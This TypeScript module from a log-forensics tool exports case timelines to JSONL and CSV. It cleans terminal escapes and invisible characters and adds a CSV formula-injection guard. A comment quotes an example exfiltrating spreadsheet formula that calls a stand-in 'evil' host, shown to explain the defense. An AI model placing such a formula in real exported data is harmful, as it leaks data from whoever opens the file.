/**
 * The case timeline as files other tools read: `timeline.jsonl` (Timesketch's JSONL import:
 * `message`, `datetime`, `timestamp_desc`, plus any flat fields) and `timeline.csv` (the same
 * columns, RFC 4180, for spreadsheets). Both are written by DuckDB's `COPY`, so a case with
 * millions of events is exported without a JavaScript step per row.
 *
 * Text is neutralized in SQL the way `cleanText` does it in TypeScript: ANSI escapes, C0/C1
 * controls (but tab and newline), bidi overrides and invisible format characters are removed, so
 * `cat`, `less` or `jq -r` on these files cannot drive a terminal. Newlines stay: JSON escapes
 * them and CSV quotes the field (RFC 4180), so every event is still exactly one record.
 *
 * CSV only, formula guard: a spreadsheet (Excel, LibreOffice, Google Sheets) evaluates a cell that
 * starts with `=`, `+`, `-` or `@` as a formula, and tab/CR can smuggle one in past that first
 * character. A logged message such as `=HYPERLINK("http://evil/?"&A1,"click")` or a DDE payload
 * would then run or exfiltrate on the investigator's machine ("CSV injection", OWASP). Such cells
 * get a leading `'`, which spreadsheets treat as "this is text" and do not display. The JSONL
 * keeps the exact text: it is read by Timesketch and jq, not evaluated as formulas.
 */
import { createHash, randomBytes } from "node:crypto";
import { createReadStream, createWriteStream } from "node:fs";
import { rename, rm, stat, truncate } from "node:fs/promises";
import { pipeline } from "node:stream/promises";
import { join, resolve } from "node:path";
import type { DuckDBConnection } from "@duckdb/node-api";
import { ANSI_PATTERN, CONTROL_PATTERN, sqlIdentifier } from "@oclog/schema";
import { tableExists } from "../load/case-tables.js";
import { TIMELINE_STATE_TABLE } from "../load/events-table.js";
import { stepByCallSql, stepByLineSql } from "../load/session-steps.js";
import { tempSuffix } from "./report-temp-files.js";

export const TIMELINE_JSONL = "timeline.jsonl";
export const TIMELINE_CSV = "timeline.csv";

/** The `timestamp_desc` of every row: the time the event happened, as its source recorded it. */
export const TIMESTAMP_DESC = "Event Time";

/** Columns of both files, in order. */
export const TIMELINE_COLUMNS = [
  "message",
  "datetime",
  "timestamp",
  "timestamp_desc",
  "source",
  "subsystem",
  "level",
  "category",
  "action",
  "outcome",
  "tool",
  "tool_call_id",
  "tool_arguments",
  "target_path",
  "target_url",
  "target_host",
  "target_command",
  "user",
  "host",
  "session_id",
  "run_id",
  "agent_id",
  // The session step the event is (session-steps.ts): its number, and `<session_id>#<step_no>`,
  // so Timesketch can filter one step's records (the call, its result, its transcript line).
  "session_step",
  "step_id",
  "raw_ref",
  "blob",
  "line",
  // Envelope checks (envelope-checks.ts): why the envelope names another user, the seconds from
  // the record's stamp to its blob's upload, and why an event outside --since/--until is here.
  "envelope_mismatch",
  "stamp_skew_s",
  "window_note",
] as const;

/** A JavaScript regex source as RE2 syntax (`\uXXXX` is `\x{XXXX}` there). */
const re2 = (pattern: RegExp) => pattern.source.replace(/\\u([0-9a-fA-F]{4})/g, "\\x{$1}");
const literal = (text: string) => `'${text.replace(/'/g, "''")}'`;

const LINE_BREAKS = literal("\\r\\n|[\\r\\x{2028}\\x{2029}\\x{85}]");
const ANSI = literal(re2(ANSI_PATTERN));
const CONTROLS = literal(re2(CONTROL_PATTERN));
const INVISIBLE = literal("[\\x{061c}\\x{200b}-\\x{200f}\\x{202a}-\\x{202e}\\x{2060}-\\x{2069}\\x{feff}]");
/** First characters that make a spreadsheet read a cell as a formula (tab and CR smuggle one in). */
const FORMULA_START_CHARS = "'=', '+', '-', '@', chr(9), chr(13)";

/** Any character one of the patterns above removes or rewrites: the fast path skips clean text. */
const NEEDS_CLEANING = literal(
  "[\\x{00}-\\x{08}\\x{0b}-\\x{1f}\\x{7f}-\\x{9f}\\x{2028}\\x{2029}\\x{061c}\\x{200b}-\\x{200f}\\x{202a}-\\x{202e}\\x{2060}-\\x{2069}\\x{feff}]",
);

/** SQL: a text expression with escapes, controls and invisible characters removed (as `cleanText`). */
export function cleanSql(expression: string): string {
  const text = `CAST(${expression} AS VARCHAR)`;
  const breaks = `regexp_replace(${text}, ${LINE_BREAKS}, chr(10), 'g')`;
  const clean = `regexp_replace(regexp_replace(regexp_replace(${breaks}, ${ANSI}, '', 'g'), ${CONTROLS}, '', 'g'), ${INVISIBLE}, '', 'g')`;
  // Most values are clean: one scan decides, the four rewrites run only on the rest.
  return `CASE WHEN regexp_matches(${text}, ${NEEDS_CLEANING}) THEN ${clean} ELSE ${text} END`;
}

/** SQL: a text expression made inert for spreadsheets (leading `'` before a formula start). */
export function formulaGuardSql(expression: string): string {
  // A first-character test, not a regex per cell: 24 cells a row made that the CSV's main cost.
  return `CASE WHEN left(${expression}, 1) IN (${FORMULA_START_CHARS}) THEN '''' || ${expression} ELSE ${expression} END`;
}

/** The text columns and their source expressions in the events table. */
const TEXT_COLUMNS: ReadonlyArray<[name: string, expression: string]> = [
  ["message", "coalesce(nullif(message, ''), action)"],
  ["source", "source"],
  ["subsystem", "subsystem"],
  ["level", "level"],
  ["category", "category"],
  ["action", "action"],
  ["outcome", "outcome"],
  ["tool", "gen_ai.tool.name"],
  ["tool_call_id", "gen_ai.tool.call.id"],
  ["tool_arguments", "gen_ai.tool.call.arguments"],
  ["target_path", "target.path"],
  ["target_url", "target.url"],
  ["target_host", "target.host"],
  ["target_command", "target.command"],
  ["user", '"user"'],
  ["host", "host"],
  ["session_id", "session_id"],
  ["run_id", "run_id"],
  ["agent_id", "agent_id"],
  ["step_id", "CASE WHEN session_step IS NOT NULL THEN step_session || '#' || session_step END"],
  ["raw_ref", "raw.ref"],
  ["blob", "blob"],
  ["envelope_mismatch", "envelope_mismatch"],
  ["window_note", "window_note"],
];


/** Whether any text column of the row has a character `cleanSql` removes (computed once per row). */
const ROW_NEEDS_CLEANING = '"oclog row needs cleaning"';

/**
 * SQL: the events, each with the session step it is (`step_session`, `session_step`), NULL when
 * none. A step's own record matches on blob and line, and on the call id too: one assistant line
 * holds several tool calls, each its own step. A tool result is on another line; it gets the step
 * of its call, by call id within the same session, user and host.
 */
function eventsWithStepsSql(table: string, stepsTable: string | null, where: string | null): string {
  const events = `(SELECT * FROM ${sqlIdentifier(table)}${where === null ? "" : ` WHERE ${where}`})`;
  if (stepsTable === null) return `SELECT *, NULL::VARCHAR AS step_session, NULL::BIGINT AS session_step FROM ${events}`;
  // The second join is on its keys alone, and whether a row takes its step is decided after it:
  // with "l.step_no IS NULL AND e.action = ..." in its ON, DuckDB joined by nested loop, every
  // event against every call (1 GB of logs with real, unique call ids: 57 s instead of 2).
  // stepByCallSql has one row per (user, host, session, call id), so no event is repeated.
  const byCall = `l.step_no IS NULL AND e.action = 'tool.result'`;
  // For some of the events (the new ones of a warm run), only the steps they can join are
  // grouped, not every step of the case (1.45 s of a 4 GB warm run's analysis).
  const lineSteps = where === null ? undefined : `blob IN (SELECT DISTINCT blob FROM ${events})`;
  const callSteps = where === null ? undefined : `call_id IN (SELECT gen_ai.tool.call.id FROM ${events} WHERE action = 'tool.result')`;
  return `SELECT e.*, coalesce(l.session_id, CASE WHEN ${byCall} THEN c.session_id END) AS step_session,
  coalesce(l.step_no, CASE WHEN ${byCall} THEN c.step_no END) AS session_step
FROM ${events} e
LEFT JOIN (${stepByLineSql(stepsTable, lineSteps)}) l
  ON l.blob = e.blob AND l.line = e.line AND l.call_id IS NOT DISTINCT FROM e.gen_ai.tool.call.id
LEFT JOIN (${stepByCallSql(stepsTable, callSteps)}) c
  ON c.call_id = e.gen_ai.tool.call.id AND c.session_id = e.session_id
  AND c."user" IS NOT DISTINCT FROM e."user" AND c.host IS NOT DISTINCT FROM e.host`;
}

/**
 * The SELECT both files are written from; `forSpreadsheet` adds the formula guard. `stepsTable`
 * names the case's `session_steps` (null for a case without one: the step columns are then empty).
 */
export function timelineSelectSql(table = "events", forSpreadsheet = false, stepsTable: string | null = null, where: string | null = null): string {
  const text = new Map(
    TEXT_COLUMNS.map(([name, expression]) => {
      const clean = `CASE WHEN ${ROW_NEEDS_CLEANING} THEN ${cleanSql(expression)} ELSE CAST(${expression} AS VARCHAR) END`;
      return [name, forSpreadsheet ? formulaGuardSql(clean) : clean];
    }),
  );
  const computed: Record<string, string> = {
    // Timesketch's documented form: ISO 8601 with an explicit UTC offset. make_timestamp() works
    // on epoch microseconds, so the session's TimeZone setting cannot shift it.
    datetime: `strftime(make_timestamp(epoch_us(time)), '%Y-%m-%dT%H:%M:%S.%f+00:00')`,
    timestamp: "epoch_us(time)",
    timestamp_desc: literal(TIMESTAMP_DESC),
    line: "line",
    session_step: "session_step",
    stamp_skew_s: "stamp_skew_s",
  };
  const select = TIMELINE_COLUMNS.map((name) => `${text.get(name) ?? computed[name]} AS "${name}"`);
  // Nearly every row is clean: one scan of all its text decides, instead of one per column.
  const allText = `concat_ws(chr(10), ${TEXT_COLUMNS.map(([, expression]) => `CAST(${expression} AS VARCHAR)`).join(", ")})`;
  return `SELECT ${select.join(",\n  ")}
FROM (SELECT *, regexp_matches(${allText}, ${NEEDS_CLEANING}) AS ${ROW_NEEDS_CLEANING} FROM (${eventsWithStepsSql(table, stepsTable, where)})) AS timeline_events
ORDER BY time, blob, line`;
}

export interface TimelineFiles {
  jsonl: string;
  csv: string;
  /** Rows written to each file (one per event). */
  rows: number;
  /** How the files were brought up to date: written whole, appended to, or already current. */
  mode: "written" | "appended" | "current";
}

async function copyTo(connection: DuckDBConnection, select: string, path: string, options: string): Promise<number> {
  const temp = `${path}${tempSuffix()}`;
  try {
    const result = await connection.runAndReadAll(`COPY (${select}) TO ${literal(temp)} (${options})`);
    await rename(temp, path);
    return Number(result.getRows()[0]?.[0] ?? 0);
  } catch (error) {
    await rm(temp, { force: true });
    throw error;
  }
}

/**
 * Runs the file writes on one DuckDB thread. An ordered COPY on several threads holds the batches
 * that finish out of order in memory, outside DuckDB's memory limit (1 GB of logs: peak RSS 1,071 MB
 * against 896 MB); on one thread it streams in order, and was no slower (JSON 2.3 s against 3.9 s).
 */
async function onOneThread<T>(connection: DuckDBConnection, write: () => Promise<T>): Promise<T> {
  const threads = Number((await connection.runAndReadAll("SELECT current_setting('threads')")).getRows()[0]![0]);
  await connection.run("SET threads = 1");
  try {
    return await write();
  } finally {
    await connection.run(`SET threads = ${threads}`);
  }
}

/**
 * The cleaned, sorted rows both files are copied from, staged once. With a second connection
 * they go into an in-memory database both connections see (a temp table is its connection's
 * alone), so the two files are written at once, each COPY on its own connection's thread (4 GB of
 * logs: 15.6 s for both against 15.3 s + 8.2 s one after the other, at the same peak RSS).
 */
interface StagedRows {
  /** The rows' table, quoted (and qualified) for SQL. */
  ref: string;
  /** Runs the JSONL and the CSV writes, at once when a second connection is there. */
  writeBoth<A, B>(jsonl: (c: DuckDBConnection) => Promise<A>, csv: (c: DuckDBConnection) => Promise<B>): Promise<[A, B]>;
  drop(): Promise<void>;
}

async function stageRows(connection: DuckDBConnection, writer: DuckDBConnection | undefined, select: string): Promise<StagedRows> {
  // Its own name: two exports may share a connection (one case, two report writers).
  const id = randomBytes(6).toString("hex");
  if (writer === undefined) {
    const ref = sqlIdentifier(`timeline_rows_${id}`);
    await connection.run(`CREATE TEMP TABLE ${ref} AS ${select}`);
    return {
      ref,
      writeBoth: (jsonl, csv) => onOneThread(connection, async () => [await jsonl(connection), await csv(connection)]),
      drop: () => connection.run(`DROP TABLE IF EXISTS ${ref}`).then(() => undefined),
    };
  }
  const database = sqlIdentifier(`oclog_timeline_${id}`);
  await connection.run(`ATTACH ':memory:' AS ${database}`);
  const ref = `${database}.${sqlIdentifier("rows")}`;
  try {
    await connection.run(`CREATE TABLE ${ref} AS ${select}`);
  } catch (error) {
    await connection.run(`DETACH ${database}`);
    throw error;
  }
  return {
    ref,
    writeBoth: (jsonl, csv) =>
      onOneThread(connection, async () => {
        // Both settle before the rows are dropped, whichever fails.
        const [a, b] = await Promise.allSettled([jsonl(connection), csv(writer)]);
        if (a.status === "rejected") throw a.reason;
        if (b.status === "rejected") throw b.reason;
        return [a.value, b.value];
      }),
    drop: () => connection.run(`DETACH ${database}`).then(() => undefined),
  };
}

/** The spreadsheet's SELECT over the cleaned rows (`from`, quoted): the formula guard on every text column. */
function spreadsheetSelectSql(from: string): string {
  const text = new Set(TEXT_COLUMNS.map(([name]) => name));
  const columns = TIMELINE_COLUMNS.map((name) => (text.has(name) ? `${formulaGuardSql(sqlIdentifier(name))} AS ${sqlIdentifier(name)}` : sqlIdentifier(name)));
  return `SELECT ${columns.join(", ")} FROM ${from}`;
}

/**
 * What the files on disk hold, kept in the case database: the evidence files they cover
 * (file_index below `next_file_index`), their row count and their stamps (the last row's
 * sort key is read back from `events`). A load that changes an event already exported drops it
 * (case-database.ts), and so does a rebuild.
 */
interface TimelineState {
  key: string;
  nextFileIndex: number;
  rows: number;
  /** Each file's size, modification time and inode (fileStamp): an edit on disk changes one of them. */
  jsonlStamp: string;
  csvStamp: string;
}

/** Changes with the SQL that writes the files: an oclog that writes other columns rewrites them. */
const STATE_KEY = createHash("sha256").update([timelineSelectSql("events", false, "session_steps"), spreadsheetSelectSql(sqlIdentifier("rows"))].join("\n")).digest("hex");

async function readState(connection: DuckDBConnection): Promise<TimelineState | undefined> {
  if (!(await tableExists(connection, TIMELINE_STATE_TABLE))) return undefined;
  const rows = (await connection.runAndReadAll(`SELECT * FROM ${TIMELINE_STATE_TABLE}`)).getRowObjectsJson();
  // One row of today's columns, or nothing to go on (a state written by an older oclog included).
  if (rows.length !== 1 || typeof rows[0]!.jsonl_stamp !== "string" || typeof rows[0]!.csv_stamp !== "string") return undefined;
  const row = rows[0]!;
  return { key: String(row.key), nextFileIndex: Number(row.next_file_index), rows: Number(row.rows), jsonlStamp: String(row.jsonl_stamp), csvStamp: String(row.csv_stamp) };
}

async function writeState(connection: DuckDBConnection, state: TimelineState | undefined): Promise<void> {
  await connection.run(`CREATE OR REPLACE TABLE ${TIMELINE_STATE_TABLE} (key VARCHAR, next_file_index BIGINT, "rows" BIGINT, jsonl_stamp VARCHAR, csv_stamp VARCHAR)`);
  if (state === undefined) return;
  await connection.run(`INSERT INTO ${TIMELINE_STATE_TABLE} VALUES (${literal(state.key)}, ${state.nextFileIndex}, ${state.rows}, ${literal(state.jsonlStamp)}, ${literal(state.csvStamp)})`);
}

/**
 * A file's size, modification time (ns) and inode: what the files looked like when written, so an
 * edit, a truncation or a replacement is seen without reading them (a 4 GB case's are gigabytes).
 */
const fileStamp = (path: string) => stat(path, { bigint: true }).then((s) => `${s.size}:${s.mtimeNs}:${s.ino}`, () => "missing");
const sizeOf = (path: string) => stat(path).then((s) => s.size);

/** Appends `from` to `to`; on failure `to` is cut back to `size`, its length before. */
async function appendFile(from: string, to: string, size: number): Promise<void> {
  try {
    await pipeline(createReadStream(from), createWriteStream(to, { flags: "a" }));
  } catch (error) {
    await truncate(to, size).catch(() => undefined);
    throw error;
  }
}

/**
 * The files already hold every event of the files below `state.nextFileIndex`, unchanged, and
 * every newer event sorts after the last row written: the rows of the newer files are appended.
 * Returns undefined when that does not hold (the caller writes both files whole).
 */
async function appendNewRows(connection: DuckDBConnection, writer: DuckDBConnection | undefined, table: string, steps: string | null, jsonl: string, csv: string, state: TimelineState): Promise<TimelineFiles | undefined> {
  if (state.key !== STATE_KEY || (await fileStamp(jsonl)) !== state.jsonlStamp || (await fileStamp(csv)) !== state.csvStamp) return undefined;
  if (!(await tableExists(connection, "evidence_files"))) return undefined;
  const isNew = `blob IN (SELECT blob FROM evidence_files WHERE file_index >= ${state.nextFileIndex})`;
  const counts = (
    await connection.runAndReadAll(`WITH last AS (SELECT time, blob, line FROM ${sqlIdentifier(table)} WHERE NOT ${isNew} ORDER BY time DESC, blob DESC, line DESC LIMIT 1)
      SELECT (SELECT count(*) FROM ${sqlIdentifier(table)} WHERE NOT ${isNew}),
             (SELECT count(*) FROM ${sqlIdentifier(table)} n, last l WHERE n.${isNew}
                AND (n.time < l.time OR (n.time = l.time AND (n.blob < l.blob OR (n.blob = l.blob AND n.line <= l.line)))))`)
  ).getRows()[0]!;
  // A row lost or added among the old, or a new row that sorts among them: write whole.
  if (Number(counts[0]) !== state.rows || Number(counts[1]) !== 0) return undefined;
  const nextFileIndex = await nextFileIndexOf(connection);
  const rows = await stageRows(connection, writer, timelineSelectSql(table, false, steps, isNew));
  const suffix = tempSuffix();
  try {
    const added = Number((await connection.runAndReadAll(`SELECT count(*) FROM ${rows.ref}`)).getRows()[0]![0]);
    if (added === 0) {
      await writeState(connection, { ...state, nextFileIndex });
      return { jsonl, csv, rows: state.rows, mode: "current" };
    }
    await rows.writeBoth(
      (c) => c.run(`COPY (SELECT * FROM ${rows.ref}) TO ${literal(jsonl + suffix)} (FORMAT json)`),
      (c) => c.run(`COPY (${spreadsheetSelectSql(rows.ref)}) TO ${literal(csv + suffix)} (FORMAT csv, HEADER false)`),
    );
    // Until both files are whole again, the state says nothing: a run cut short rewrites them.
    await writeState(connection, undefined);
    const [jsonlBytes, csvBytes] = [await sizeOf(jsonl), await sizeOf(csv)];
    await appendFile(jsonl + suffix, jsonl, jsonlBytes);
    try {
      await appendFile(csv + suffix, csv, csvBytes);
    } catch (error) {
      await truncate(jsonl, jsonlBytes).catch(() => undefined);
      throw error;
    }
    const total = state.rows + added;
    await writeState(connection, { key: STATE_KEY, nextFileIndex, rows: total, jsonlStamp: await fileStamp(jsonl), csvStamp: await fileStamp(csv) });
    return { jsonl, csv, rows: total, mode: "appended" };
  } finally {
    await rm(jsonl + suffix, { force: true });
    await rm(csv + suffix, { force: true });
    await rows.drop();
  }
}

async function nextFileIndexOf(connection: DuckDBConnection): Promise<number> {
  if (!(await tableExists(connection, "evidence_files"))) return 0;
  return Number((await connection.runAndReadAll("SELECT coalesce(max(file_index) + 1, 0) FROM evidence_files")).getRows()[0]![0]);
}

/**
 * Writes `timeline.jsonl` and `timeline.csv` into `caseDir`. A case kept current (the daily run)
 * appends the new day's rows to the files an earlier run wrote; otherwise each file is written
 * whole, then renamed into place.
 */
export async function exportTimeline(connection: DuckDBConnection, caseDir: string, table = "events", options: { writer?: DuckDBConnection } = {}): Promise<TimelineFiles> {
  const dir = resolve(caseDir);
  const jsonl = join(dir, TIMELINE_JSONL);
  const csv = join(dir, TIMELINE_CSV);
  // A case loaded before sessions were case data has no session_steps: the step columns stay empty.
  const steps = (await tableExists(connection, "session_steps")) ? "session_steps" : null;
  // Only the case's own events table is tracked: another table is always written whole.
  const state = table === "events" && steps !== null ? await readState(connection) : undefined;
  if (state !== undefined) {
    const appended = await appendNewRows(connection, options.writer, table, steps, jsonl, csv, state);
    if (appended !== undefined) return appended;
  }
  const nextFileIndex = await nextFileIndexOf(connection);
  // Cleaned, joined to the steps and sorted once; both files are copied from it in that order
  // (each file computing it again took 2.3 s and 1.8 s for 256 MB of logs).
  const staged = await stageRows(connection, options.writer, timelineSelectSql(table, false, steps));
  try {
    if (table === "events" && steps !== null) await writeState(connection, undefined);
    const [rows] = await staged.writeBoth(
      (c) => copyTo(c, `SELECT * FROM ${staged.ref}`, jsonl, "FORMAT json"),
      (c) => copyTo(c, spreadsheetSelectSql(staged.ref), csv, "FORMAT csv, HEADER"),
    );
    if (table === "events" && steps !== null) await writeState(connection, { key: STATE_KEY, nextFileIndex, rows, jsonlStamp: await fileStamp(jsonl), csvStamp: await fileStamp(csv) });
    return { jsonl, csv, rows, mode: "written" };
  } finally {
    await staged.drop();
  }
}
